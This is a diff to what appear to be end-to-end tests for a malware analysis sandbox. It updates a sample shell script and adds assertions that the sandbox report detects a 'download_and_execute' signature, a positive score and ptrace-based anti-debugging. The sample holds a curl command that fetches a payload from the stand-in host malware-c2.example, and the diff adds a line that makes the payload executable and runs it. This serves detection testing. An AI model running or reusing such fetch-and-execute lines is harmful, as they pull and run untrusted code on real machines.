@@ -15,6 +15,7 @@ echo "stolen data" > /tmp/dropped.txt
 mkdir -p /tmp/stage
 sh -c 'echo from-child > /tmp/stage/child.txt'
 curl -s -o /tmp/stage/payload http://malware-c2.example/payload.bin
+chmod +x /tmp/stage/payload && /tmp/stage/payload
 # A process that outlives the timeout: its memory is dumped at the end, then the machine kills it.
 sleep 600 &
 sleep 1
@@ -81,7 +82,9 @@ describe('end to end on the Linux machine', { timeout: 900_000 }, () => {
     assert.ok(report.network.dns.some((query: { request: string }) => query.request === 'malware-c2.example'));
     assert.ok(report.network.http.some((request: { uri: string }) => request.uri.includes('/payload.bin')));
     assert.ok(report.dropped.some((file: { filepath: string }) => file.filepath === '/tmp/dropped.txt'));
-    assert.equal(typeof report.info.score, 'number');
+    const signatures = report.signatures.map((signature: { name: string }) => signature.name);
+    assert.ok(signatures.includes('download_and_execute'), signatures.join(','));
+    assert.ok(report.info.score > 0);
     assert.ok(existsSync(join(dir, 'reports', 'report.html')));
   });
 
@@ -100,5 +103,6 @@ int main(void) {
     const { body: report } = await server.json<any>(`/tasks/report/${id}`);
     assert.ok(report.dropped.some((file: { filepath: string }) => file.filepath === '/tmp/not-debugged'), 'the sample misbehaved');
     assert.ok(report.behavior.summary.file_created.includes('/tmp/not-debugged'));
+    assert.ok(report.signatures.some((signature: { name: string }) => signature.name === 'antidebug_ptrace_traceme'));
   });
 });
